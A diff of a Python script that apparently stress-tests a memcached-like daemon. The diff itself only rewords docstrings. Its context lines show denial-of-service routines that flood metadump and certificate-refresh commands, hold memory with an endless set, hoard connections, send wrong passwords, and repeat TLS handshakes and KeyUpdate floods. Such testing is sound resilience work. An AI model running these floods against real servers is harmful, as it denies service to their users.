@@ -18,7 +18,7 @@ import threading
 import time
 
 KEY_UPDATES = 20_000
-"""A worker that answered so many at once would need a good part of a second."""
+"""A worker that answered so many at once would need a large part of a second."""
 
 
 class Attack:
@@ -57,7 +57,7 @@ class Attack:
 
 
 def connect(address):
-    """A connection, as soon as there is a daemon."""
+    """A connection, made as soon as there is a daemon."""
     while True:
         try:
             return socket.create_connection(address, timeout=30)
@@ -66,7 +66,7 @@ def connect(address):
 
 
 def read_end(connection, end):
-    """Reads and throws away all until `end`."""
+    """Reads to `end`, and throws away what it reads."""
     tail = b""
     while not tail.endswith(end):
         piece = connection.recv(1 << 18)
@@ -87,7 +87,7 @@ def touches(connection, turn):
 
 
 def dumps(connection, turn):
-    """All items are listed again and again."""
+    """Asks for a list of all items, again and again."""
     while True:
         connection.sendall(b"lru_crawler metadump all\r\n")
         line = b""
@@ -102,7 +102,7 @@ def dumps(connection, turn):
 
 
 def certificates(connection, turn):
-    """The certificates are read again and again."""
+    """Asks for the certificates to be read again, again and again."""
     while True:
         connection.sendall(b"refresh_certs\r\n" * 500 + b"mn\r\n")
         connection.recv(1)
@@ -111,7 +111,7 @@ def certificates(connection, turn):
 
 
 def drip(connection, turn):
-    """A large set that never ends: its memory is taken from all others."""
+    """A large set that never ends. Its memory is not available to the others."""
     connection.sendall(b"set drip 0 0 1000000\r\n" + b"d" * 950_000)
     turn()
     while True:
@@ -125,7 +125,7 @@ def drip(connection, turn):
 
 
 def hoard(connection, turn):
-    """A connection that is there, and nothing else."""
+    """A connection that does nothing."""
     turn()
     while connection.recv(1000):
         pass
@@ -154,7 +154,7 @@ def http(connection, turn):
 
 
 def passwords(connection, turn):
-    """One wrong password after another."""
+    """Sends one wrong password after another."""
     number = 0
     while True:
         number += 1
@@ -165,7 +165,7 @@ def passwords(connection, turn):
 
 
 def handshakes(connection, turn):
-    """One expensive TLS handshake after another."""
+    """Makes one expensive TLS handshake after another."""
     context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
     context.check_hostname = False
     context.verify_mode = ssl.CERT_NONE
@@ -174,8 +174,8 @@ def handshakes(connection, turn):
 
 
 def key_updates(connection, turn):
-    """TLS records that contain only KeyUpdate messages: all are made first, then sent at once."""
-    from hostile_tls import HostileTls  # found beside the program, and not by who imports Attack
+    """Sends TLS records that contain only KeyUpdate messages. All are made first, and then sent at once."""
+    from hostile_tls import HostileTls  # found only when this file runs as a program
 
     with HostileTls(connection) as client:
         records = client.key_updates(KEY_UPDATES)
@@ -192,7 +192,7 @@ CONNECTIONS = {
 
 
 def main(kind, address):
-    """Attacks until somebody ends the process."""
+    """Attacks until the process is killed."""
     attack = next(function for function in CONNECTIONS if function.__name__ == kind)
     host, port = address.rsplit(":", 1)
     begun = threading.Barrier(CONNECTIONS[attack] + 1)
